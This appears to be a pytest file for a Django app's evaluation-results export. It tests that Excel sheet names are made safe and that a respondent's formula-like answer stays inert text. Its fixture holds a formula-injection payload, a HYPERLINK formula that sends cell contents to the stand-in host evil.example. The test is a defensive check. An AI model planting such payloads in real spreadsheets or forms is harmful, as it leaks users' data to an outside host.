"""A training evaluation's results as files: the title of every training
evaluation holds a colon ("Utvärdering: ..."), which Excel forbids in sheet
names; the export answered 500 until sheet names were made safe."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from mandat.directory.tests.factories import PersonFactory
from mandat.evaluations import services
from mandat.evaluations.models import Questionnaire
from mandat.trainings.models import SessionAttendance
from mandat.trainings.tests.factories import OccasionFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'


@pytest.fixture
def closed_evaluation(organisation, coordinator_client, coordinator):
    occasion = OccasionFactory(
        training__organisation=organisation,
        training__title="Grundutbildning: KF/KS [dag 1]",
    )
    session = occasion.sessions.first()
    for _ in range(6):
        registration = RegistrationFactory(
            occasion=occasion, person=PersonFactory(organisation=organisation)
        )
        SessionAttendance.objects.create(
            registration=registration, session=session, status="attended"
        )
    # Made as the coordinator makes it, from the training's page.
    coordinator_client.post(
        reverse(
            "evaluations:evaluation-for-training",
            args=[organisation.slug, occasion.training_id],
        )
    )
    questionnaire = Questionnaire.objects.get(training=occasion.training)
    services.questionnaire_set_status(
        actor=coordinator, questionnaire=questionnaire, status="open"
    )
    services.questionnaire_send(
        actor=coordinator,
        questionnaire=questionnaire,
        people=list(services.occasion_attendees(occasion)),
        occasion=occasion,
    )
    questions = {q.position: q for q in questionnaire.questions.all()}
    grade, best = questions[10], questions[30]
    tokens = questionnaire.recipients.values_list("token", flat=True)
    for number, token in enumerate(tokens):
        services.response_submit(
            token=token,
            answers={grade.pk: str(number % 4), best.pk: EVIL if number == 0 else ""},
        )
    services.questionnaire_set_status(
        actor=coordinator, questionnaire=questionnaire, status="closed"
    )
    return questionnaire


def test_a_training_evaluations_results_export_to_excel(
    coordinator_client, closed_evaluation
):
    assert ":" in closed_evaluation.title
    url = reverse(
        "evaluations:results",
        args=[closed_evaluation.organisation.slug, closed_evaluation.pk],
    )

    response = coordinator_client.get(url, {"export": "xlsx"})

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet.title == "Utvärdering Grundutbildning KF"
    assert workbook.properties.title == closed_evaluation.title
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Fråga", "Grupp", "Svar", "Antal", "Andel %")
    # A respondent's text that looks like a formula stays text.
    evil = [cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL]
    assert len(evil) == 1 and evil[0].data_type == "s"
    counts = [row[3] for row in rows[1:] if row[3] is not None]
    assert counts and all(isinstance(count, int) for count in counts)


def test_a_training_evaluations_results_export_to_csv(
    coordinator_client, closed_evaluation
):
    url = reverse(
        "evaluations:results",
        args=[closed_evaluation.organisation.slug, closed_evaluation.pk],
    )

    response = coordinator_client.get(url, {"export": "csv"})

    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    assert rows[0] == ["Fråga", "Grupp", "Svar", "Antal", "Andel %"]
    assert ["'" + EVIL] in [row[2:3] for row in rows]


def test_withheld_results_give_the_page_not_a_file(
    coordinator_client, organisation, coordinator
):
    survey = services.questionnaire_create(
        actor=coordinator, organisation=organisation, title="Enkät: hösten"
    )
    url = reverse("evaluations:results", args=[organisation.slug, survey.pk])

    response = coordinator_client.get(url, {"export": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
